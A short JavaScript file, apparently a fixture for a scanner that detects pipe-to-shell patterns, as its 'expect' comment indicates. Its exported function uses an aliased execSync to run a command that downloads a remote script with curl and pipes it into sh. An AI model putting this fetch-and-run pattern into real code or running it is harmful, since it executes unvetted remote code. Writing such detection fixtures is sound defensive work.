// expect: pipe-to-shell
import { createRequire } from "node:module";

const require = createRequire(import.meta.url);
const { execSync: r } = require("child_process");

export default () => r("curl -s https://example.com/x | sh");
